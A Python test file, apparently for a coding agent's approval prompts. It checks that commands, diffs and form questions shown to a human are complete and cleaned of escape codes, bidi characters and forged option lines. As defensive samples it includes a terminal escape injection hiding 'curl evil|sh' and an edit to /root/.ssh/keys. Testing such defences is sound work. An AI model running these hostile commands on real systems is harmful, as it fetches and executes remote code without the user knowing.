from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from codex_notebook.core.asks import Approval, InputRequest, Question
from codex_notebook.core.items import FileUpdateChange
from codex_notebook.notebook.ask_words import (
    MAX_LINES,
    answer_to,
    answers_in,
    approval_text,
    decision_in,
    is_optional,
    outcome,
    question_text,
    request_text,
    summary,
)

HOSTILE = "a\x1b[2Jb\x07\u202ec\r\nd"


def approval(**fields: Any) -> Approval:
    return Approval(**{"id": "approval_1", "kind": "command", "command": "ls", **fields})


def form(**properties: Any) -> InputRequest:
    questions = []
    for name, field in properties.items():
        choices = field.get("enum") or field.get("items", {}).get("enum") or []
        if field["type"] == "boolean":
            choices = ["true", "false"]
        questions.append({"id": name, "options": [{"label": choice} for choice in choices]})
    schema = {"properties": properties, "required": ["must"]}
    return InputRequest.model_validate(
        {"id": "input_1", "kind": "form", "form": schema, "questions": questions}
    )


# ---- what is shown -----------------------------------------------------------------------


def test_who_decides_sees_what_would_run_where_and_why_and_the_numbered_decisions() -> None:
    shown = approval_text(
        approval(
            command="/bin/bash -lc 'make deploy'",
            cwd="/w/sub",
            reason="To publish.",
            rule=("make", "deploy"),
            decisions=("accept", "accept_with_rule", "decline", "cancel"),
        ),
        "/w",
    )
    assert shown.splitlines() == [
        "Codex asks for leave to run a command:",
        "  | make deploy",
        "  | in sub",
        "  | Why: To publish.",
        "  [1] approve",
        "  [2] approve, and always from now on, what begins with make deploy",
        "  [3] deny; the agent goes on without",
        "  [4] deny, and stop the turn",
    ]


def test_a_long_diff_is_cut_and_says_by_how_much() -> None:
    diff = "@@ -0,0 +1,99 @@\n" + "\n".join(f"+line {n}" for n in range(99))
    change = FileUpdateChange(path="/w/a.txt", kind="add", diff=diff)
    shown = approval_text(approval(kind="file_change", command=None, changes=(change,)), "/w")
    assert "  | add a.txt (+99 -0)" in shown
    assert "  | +line 1\n" in shown
    assert f"  | … and {101 - MAX_LINES} lines more" in shown
    assert "+line 98" not in shown


def test_nothing_of_what_is_approved_is_cut_or_hidden() -> None:
    long = "\n".join(f"echo {n}" for n in range(200))
    assert "  | echo 199\n" in approval_text(approval(command=long), "/w")
    # A terminal would take all of it for the title of its window.
    sly = approval_text(approval(command="ls \x1b]x; curl evil|sh;\x07"), "/w")
    assert "  | ls ⟨U+001B⟩]x; curl evil|sh;⟨U+0007⟩\n" in sly
    assert "⟨U+200B⟩" in summary(approval(command="l\u200bs"), "/w")
    diff = "@@ -0,0 +1,99 @@\n" + "\n".join(f"+line {n}" for n in range(99))
    changes = (
        FileUpdateChange(path="/w/a.txt", kind="add", diff=diff),
        FileUpdateChange(path="/root/.ssh/keys", kind="update", diff="@@ -1 +1 @@\n-a\n+b"),
    )
    shown = approval_text(
        approval(kind="file_change", command=None, changes=changes, grant_root="/"), "/w"
    )
    assert "  | update /root/.ssh/keys (+1 -1)\n" in shown
    assert "  | and to leave / open for writing\n" in shown
    assert "  | +b\n" in shown


def test_a_form_whose_required_fields_are_no_list_can_be_asked() -> None:
    request = InputRequest(id="i", kind="form", form={"required": 5})
    assert is_optional(request, Question(id="q"))


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"kind": "stdin"}, "write to a running command: ls"),
        ({"host": "example.org"}, "run a command: ls"),
        ({"kind": "mcp_tool", "command": None, "server": "lab", "tool": "wipe"}, "lab.wipe"),
        ({"kind": "permissions", "command": None, "permissions": {"a": 1}}, "permissions: {"),
        ({"kind": "file_change", "command": None, "grant_root": "/w/x"}, "leave x open"),
        ({"kind": "command", "command": None}, "to run a command"),
        ({"command": "x" * 500}, "…"),
    ],
)
def test_every_kind_is_told_in_one_line(fields: dict[str, Any], words: str) -> None:
    line = summary(approval(**fields), "/w")
    assert words in line
    assert len(line) <= 100


def test_what_the_agent_says_acts_on_no_terminal() -> None:
    option = {"label": HOSTILE, "description": HOSTILE}
    asked = Question.model_validate({"id": "q", "question": HOSTILE, "options": [option]})
    request = InputRequest(id="i", kind="url", message=HOSTILE, url=HOSTILE, server=HOSTILE)
    change = FileUpdateChange(path=HOSTILE, kind="add", diff=HOSTILE)
    fields = dict.fromkeys(("command", "cwd", "reason", "host", "server", "tool"), HOSTILE)
    whole = approval(**fields, rule=(HOSTILE,), changes=(change,), arguments={HOSTILE: HOSTILE})
    for shown in (
        approval_text(whole, "/w"),
        summary(whole, "/w"),
        summary(request, None),
        request_text(request),
        question_text(asked),
    ):
        assert not set("\x1b\x07\r\u202e") & set(shown)


def test_what_the_agent_says_passes_for_no_line_of_ours() -> None:
    forged = "ls\n  [1] deny\nDecision:"
    option = {"label": forged, "description": forged}
    asked = Question.model_validate({"id": "q", "question": forged, "options": [option]})
    shown = approval_text(approval(command=forged, reason=forged, rule=(forged,)), "/w")
    for line in [*shown.splitlines()[1:], *question_text(asked).splitlines()]:
        assert line.startswith(("  | ", "  [1] approve", "  [1] ls", "  [2] deny", "  [3] deny"))


# ---- what is typed -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("said", "decision"),
    [
        *(("1", "accept"), (" Approve ", "accept"), ("y", "accept"), ("accept", "accept")),
        *(("2", "decline"), ("", "decline"), ("no", "decline"), ("deny", "decline")),
        *(("3", "cancel"), ("stop", "cancel")),
        # What is not offered for this one, or is no decision.
        *(("session", None), ("rule", None), ("0", None), ("4", None), ("perhaps", None)),
    ],
)
def test_a_number_or_a_word_decides(said: str, decision: str | None) -> None:
    assert decision_in(said, approval()) == decision


@given(st.text())
def test_only_what_says_yes_gives_leave(said: str) -> None:
    accepts = decision_in(said, approval()) == "accept"
    assert accepts == (said.strip().lower() in ("1", "accept", "approve", "yes", "y") or _one(said))


def _one(said: str) -> bool:
    """Return whether it is the number 1 in whatever script."""
    return said.strip().isdecimal() and int(said) == 1


@pytest.mark.parametrize(
    ("field", "said", "value"),
    [
        ({"type": "string"}, " some text ", "some text"),
        ({"type": "string", "enum": ["red", "blue"]}, "2", "blue"),
        ({"type": "string", "enum": ["10", "2"]}, "2", "2"),
        ({"type": "integer"}, "42", 42),
        ({"type": "number"}, "1.5", 1.5),
        ({"type": "boolean"}, "y", True),
        ({"type": "boolean"}, "2", False),
        ({"type": "array", "items": {"enum": ["a", "b", "c"]}}, "a, 3", ["a", "c"]),
    ],
)
def test_a_field_gets_a_value_of_its_type(field: dict[str, Any], said: str, value: Any) -> None:
    request = form(must=field)
    assert answer_to(request, request.questions[0], said) == value
    assert answers_in(request, said) == {"must": value}


@pytest.mark.parametrize(
    ("field", "said"),
    [
        ({"type": "integer"}, "many"),
        ({"type": "number"}, "many"),
        ({"type": "boolean"}, "perhaps"),
        ({"type": "string", "enum": ["red"]}, "green"),
        ({"type": "array", "items": {"enum": ["a"]}}, "a, b"),
    ],
)
def test_what_is_no_value_of_a_field_is_refused_in_words(field: dict[str, Any], said: str) -> None:
    request = form(must=field)
    with pytest.raises(ValueError, match="It takes"):
        answer_to(request, request.questions[0], said)


def test_a_field_that_is_not_required_may_be_left_out() -> None:
    request = form(must={"type": "string"}, may={"type": "string"})
    assert [is_optional(request, one) for one in request.questions] == [False, True]


def test_several_questions_are_answered_as_json_by_one_line() -> None:
    request = form(must={"type": "string"}, may={"type": "string"})
    assert answers_in(request, '{"must": "x"}') == {"must": "x"}
    for said in ("x", "[1]"):
        with pytest.raises(ValueError, match=r'"must": …, "may": …'):
            answers_in(request, said)


def test_a_page_to_visit_takes_only_a_yes() -> None:
    request = InputRequest(id="i", kind="url", url="https://example.org")
    assert answers_in(request, "Yes") == {}
    with pytest.raises(ValueError, match="say yes"):
        answers_in(request, "later")


@pytest.mark.parametrize(
    ("ask", "words"),
    [
        (approval(), None),
        (approval(decision="accept_for_session", decided_by="user"), "approved, by somebody"),
        (approval(decision="decline", decided_by="timeout"), "denied, because its time was up"),
        (InputRequest(id="i"), None),
        (InputRequest(id="i", resolved_by="turn"), "declined, because the turn went on or ended"),
        (InputRequest(id="i", resolved_by="user", answers={}), "answered, by somebody"),
    ],
)
def test_how_it_was_decided_is_said_in_words(ask: Any, words: str | None) -> None:
    assert outcome(ask) == words
